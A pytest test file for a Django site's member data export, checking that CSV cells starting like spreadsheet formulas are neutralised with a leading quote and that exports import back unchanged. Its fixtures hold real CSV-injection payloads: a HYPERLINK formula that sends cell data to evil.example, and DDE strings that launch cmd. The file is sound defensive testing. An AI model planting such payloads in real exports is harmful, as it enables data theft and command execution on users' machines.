"""A member's own words, and the catalog's titles, cannot run as a formula when the member
opens their exports in a spreadsheet (CSV injection, issue 18): every text cell that begins
with =, +, -, @, a tab or a carriage return gets a single quote in front, as OWASP says;
numbers stay numbers; and the site reads its own CSV export back to the same data.
"""

import csv
import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from hypothesis import given
from hypothesis import strategies as st

from catalog.models import Episode, Show
from kernel.spreadsheets import FORMULA_STARTS, neutralised, unquoted
from members.models import AccessToken, User
from reviews import moderation, services
from reviews.models import Rating, Review, Watch, WatchlistEntry
from tests.factories import IMPORT_PREMIERE, make_import_catalog, make_member

pytestmark = pytest.mark.django_db

# One payload for each character a spreadsheet takes as the start of a formula.
DISPLAY_NAME = '=HYPERLINK("https://evil.example/?"&A1,"Odette")'
BIO = "+1+cmd|' /C calc'!A0"
REVIEW = "-2+3 and a fine pas de deux"
REPLY = "\r=1+1"
REPORT_NOTE = "@SUM(1+1)*cmd|' /C calc'!A0"
TOKEN_NAME = "\t=1+1"
SHOW_TITLE = "=Étoile"
EPISODE_TITLE = "+Episode 1"


@pytest.fixture
def odette(empty_catalog) -> User:
    show = make_import_catalog()
    Show.objects.filter(pk=show.pk).update(title=SHOW_TITLE)
    Episode.objects.filter(season__show=show, number=1).update(title=EPISODE_TITLE)
    member = make_member("=odette@example.com", "odette")
    User.objects.filter(pk=member.pk).update(display_name=DISPLAY_NAME, bio=BIO)
    odile = make_member("odile@example.com", "odile")

    first, second = (episode(1), episode(2))
    services.rating_set(member=member, episode=first, score=8)
    services.watch_add(member=member, episode=first, watched_on=IMPORT_PREMIERE)
    services.watchlist_add(member=member, episodes=[second])
    review = services.review_post(member=member, episode=first, body="placeholder")
    theirs = services.review_post(member=odile, episode=first, body="Odile's review.")
    reply = services.review_post(member=member, episode=first, body="placeholder", parent=theirs)
    Review.objects.filter(pk=review.pk).update(body=REVIEW)
    Review.objects.filter(pk=reply.pk).update(body=REPLY)
    moderation.report_create(reporter=member, review=theirs, reason="other", note=REPORT_NOTE)
    AccessToken.objects.create_for(member, TOKEN_NAME)
    return User.objects.get(pk=member.pk)


def episode(number: int) -> Episode:
    return Episode.objects.select_related("season__show").get(season__number=1, number=number)


def signed_in(member: User) -> Client:
    client = Client()
    client.force_login(member)
    return client


def cells(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def assert_nothing_runs(name: str, rows: list[dict]) -> None:
    for number, row in enumerate(rows, start=2):
        for column, value in row.items():
            assert not value.startswith(FORMULA_STARTS), f"{name}, line {number}, {column}"


def test_no_cell_of_the_data_export_runs_as_a_formula_and_numbers_stay_numbers(odette):
    archive = zipfile.ZipFile(io.BytesIO(signed_in(odette).get("/me/export/").content))
    files = {
        name: cells(archive.read(name).decode())
        for name in archive.namelist()
        if name.endswith(".csv")
    }

    assert len(files) >= 10
    for name, rows in files.items():
        assert_nothing_runs(name, rows)
    [profile] = files["profile.csv"]
    assert profile["display_name"] == "'" + DISPLAY_NAME
    assert profile["bio"] == "'" + BIO
    assert profile["email"] == "'=odette@example.com"
    [review, reply] = files["reviews.csv"]
    assert (review["body"], reply["body"]) == ("'" + REVIEW, "'" + REPLY)
    assert files["reports.csv"][0]["note"] == "'" + REPORT_NOTE
    assert files["access_tokens.csv"][0]["name"] == "'" + TOKEN_NAME
    assert files["ratings.csv"][0]["episode_title"] == "'" + EPISODE_TITLE
    # Numbers are written as numbers, with nothing in front.
    [rating] = files["ratings.csv"]
    assert (rating["season"], rating["episode"], rating["score"], rating["stars"]) == (
        "1",
        "1",
        "8",
        "4.0",
    )
    assert review["likes"] == "0" and review["id"].isdecimal()
    assert reply["reply_to"].isdecimal()


def test_no_cell_of_the_csv_download_runs_as_a_formula_and_numbers_stay_numbers(odette):
    response = signed_in(odette).get("/me/export/csv/")

    rows = cells(response.content.decode())
    assert_nothing_runs("export.csv", rows)
    assert {row["Name"] for row in rows} == {"'" + SHOW_TITLE}
    assert {row["Episode Title"] for row in rows} == {"'" + EPISODE_TITLE, "Episode 2"}
    rated = next(row for row in rows if row["Rating"])
    assert (rated["Season"], rated["Episode"], rated["Rating"], rated["Year"]) == (
        "1",
        "1",
        "4",
        "2025",
    )


def test_the_csv_download_imports_back_to_the_same_data_with_titles_that_start_like_formulas(
    odette,
):
    def data() -> dict:
        return {
            "ratings": list(Rating.objects.filter(member=odette).values_list("episode", "score")),
            "watches": list(
                Watch.objects.filter(member=odette).values_list("episode", "watched_on")
            ),
            "watchlist": list(
                WatchlistEntry.objects.filter(member=odette).values_list("episode", flat=True)
            ),
        }

    client = signed_in(odette)
    before = data()
    exported = client.get("/me/export/csv/").content
    services.rating_remove(member=odette, episode=episode(1))
    Watch.objects.filter(member=odette).delete()
    WatchlistEntry.objects.filter(member=odette).delete()

    preview = client.post(
        "/me/import/", {"file": SimpleUploadedFile("export.csv", exported)}
    ).context["preview"]
    assert not preview.skipped
    client.post("/me/import/confirm/", {"plan": preview.token})

    assert data() == before
    assert all(before.values())


@given(st.text())
def test_a_quoted_cell_reads_back_as_it_was_written(text):
    written = neutralised(text)

    assert not written.startswith(FORMULA_STARTS)
    assert unquoted(written) == text
    assert written == text or written == "'" + text


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("'=1+1", "''=1+1"),  # a quote the member typed is kept, and comes back
        ("'quoted", "'quoted"),
        ("Odette", "Odette"),
        ("", ""),
        (8, 8),
        (-3, -3),  # a number the site writes is a number, not a formula
        (4.5, 4.5),
        (True, True),
    ],
)
def test_only_text_that_starts_like_a_formula_is_quoted(value, written):
    assert neutralised(value) == written
